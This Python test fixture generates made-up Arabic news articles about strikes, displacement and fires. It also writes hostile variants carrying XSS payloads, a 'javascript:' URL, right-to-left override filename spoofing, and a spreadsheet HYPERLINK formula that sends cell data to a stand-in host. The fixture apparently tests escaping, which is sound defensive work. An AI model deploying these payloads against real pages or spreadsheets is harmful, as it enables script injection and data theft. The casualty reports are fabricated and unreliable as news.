"""News of our own making for the tests of the load."""

from __future__ import annotations

import json
from pathlib import Path

#: The articles that everybody meets first.
SAMPLES = Path(__file__).resolve().parents[1] / "seeds" / "news"

_PLACES = ("حلب", "الموصل", "تعز", "درعا", "بنغازي", "غزة", "الفلوجة", "عدن")
_TEXTS = (
    "قُتل {n} مدنيين وأصيب {m} آخرون في غارة جوية على {place} أمس، وفق ما أعلن مصدر طبي.",
    "نزح أكثر من {m} ألف شخص من {place} منذ الاثنين، بحسب الأمم المتحدة.\nودعت الأمم المتحدة إلى هدنة إنسانية.",
    "التقى وزير الخارجية الأردني نظيره المصري في {place} يوم الأحد لبحث الأزمة، بعد {m} يوما من آخر لقاء بينهما.",
    "أعلنت وزارة الصحة وفاة {n} أشخاص في حريق بمدينة {place}، وإصابة ما لا يقل عن {m} شخصا.",
)


def article(number: int) -> str:
    """One of any number of different articles."""
    text = _TEXTS[number % len(_TEXTS)]
    return text.format(n=3 + number % 7, m=11 + number, place=_PLACES[number // 4 % len(_PLACES)])


def write_news(folder: Path, count: int, day: str = "2016-12-11") -> Path:
    """``count`` articles in as many files of a folder whose name is their day."""
    target = folder / day
    target.mkdir(parents=True)
    for number in range(count):
        (target / f"{number:03}.txt").write_text(article(number), encoding="utf-8")
    return folder


#: Headlines and sentences that mean harm to a page, a spreadsheet or a reader's eye; each text tells of killed.
HOSTILE = {
    "script": ("</script><script>window.harmed = 1</script>", "<img src=x onerror=window.harmed=1>"),
    "formula": ('=HYPERLINK("http://harm.example/?"&A1, "open")', "\"&'<b>قولا</b> --><!--"),
    "direction": ("\u202egnp.exe خبر \u2066", "\u202eقالوا\u2067"),
}


def write_hostile_news(folder: Path) -> Path:
    """An article for each of :data:`HOSTILE`, on days of their own in March 1999: 10, at least 11, and 12 killed."""
    for day, (name, (title, words)) in enumerate(HOSTILE.items(), start=10):
        least = " على الأقل" if name == "formula" else ""
        text = f"قُتل {day} مدنيا{least} في غارة جوية على مدينة حلب {words} يوم {day} آذار 1999، بحسب مصدر طبي."
        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
        about = {
            "source": f"@{name}",
            "date": f"1999-03-{day + 1}",
            "title": title,
            "url": "javascript:window.harmed=1",
        }
        (folder / f"{name}.json").write_text(json.dumps(about), encoding="utf-8")
    return folder
